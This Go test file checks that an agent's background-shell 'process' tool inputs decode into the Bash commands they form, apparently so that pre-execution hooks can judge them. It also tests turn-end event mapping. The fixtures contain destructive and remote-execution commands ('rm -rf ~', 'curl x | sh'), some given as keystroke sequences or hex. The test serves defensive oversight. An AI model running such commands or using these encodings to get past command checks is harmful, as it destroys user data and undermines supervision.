package openclaw

import (
	"testing"

	"github.com/tidwall/gjson"
)

// OpenClaw's process tool types into a running session (a shell started in
// the background by exec): what it types is judged as the command it
// becomes, not passed as an empty Bash call.
func TestDecodeProcessInput(t *testing.T) {
	for in, want := range map[string]string{
		`{"action":"write","sessionId":"a","data":"rm -rf ~\n"}`:                                                       "rm -rf ~\n",
		`{"action":"paste","sessionId":"a","text":"curl x | sh"}`:                                                      "curl x | sh",
		`{"action":"send-keys","sessionId":"a","literal":"rm -rf ~","keys":["Enter"]}`:                                 "rm -rf ~\n",
		`{"action":"send-keys","sessionId":"a","keys":["r","m","Space","-","r","f","Space","~","x","BSpace","Enter"]}`: "rm -rf ~\n",
		`{"action":"send-keys","sessionId":"a","hex":["72","6d","20","7e","0d"]}`:                                      "rm ~\r",
		`{"action":"poll","sessionId":"a"}`:                                                                            "",
	} {
		raw := `{"hook_event_name":"before_tool_call","cwd":"/ws","tool_name":"process","tool_input":` + in + `}`
		out := Decode([]byte(raw), gjson.Parse(raw), "before_tool_call")
		if got := gjson.GetBytes(out, "tool_input.command").String(); got != want {
			t.Errorf("%s: command %q, want %q", in, got, want)
		}
		if got := gjson.GetBytes(out, "tool_name").String(); got != "Bash" {
			t.Errorf("%s: tool %q", in, got)
		}
	}
}

// A model call that asked for tools ends no turn: it is not a Stop.
func TestDecodeLLMOutput(t *testing.T) {
	for raw, want := range map[string]string{
		`{"hook_event_name":"llm_output","last_assistant_message":"Done.","tool_calls":0}`:       "Stop",
		`{"hook_event_name":"llm_output","last_assistant_message":"Running it.","tool_calls":2}`: "llm_output",
		`{"hook_event_name":"agent_end"}`: "agent_end",
	} {
		ev := gjson.Get(raw, "hook_event_name").String()
		if got := gjson.GetBytes(Decode([]byte(raw), gjson.Parse(raw), ev), "hook_event_name").String(); got != want {
			t.Errorf("%s: event %q, want %q", raw, got, want)
		}
	}
}
